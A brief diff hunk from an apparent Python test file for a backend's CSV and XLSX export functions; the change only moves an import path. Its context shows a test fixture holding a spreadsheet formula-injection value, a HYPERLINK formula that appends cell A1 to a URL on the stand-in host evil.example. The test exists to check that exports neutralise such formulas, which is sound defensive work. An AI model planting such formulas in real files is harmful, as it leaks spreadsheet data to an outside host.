@@ -16,7 +16,7 @@ from openpyxl import Workbook, load_workbook
 
 from backend.exports import FORMULA_TRIGGERS, csv_bytes, safe_cell, sheet_append, xlsx_bytes
 from backend.timeutil import local_today
-from tests.phone import Phone
+from tests.kit.phone import Phone
 
 HOSTILE = {
     "agency": '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
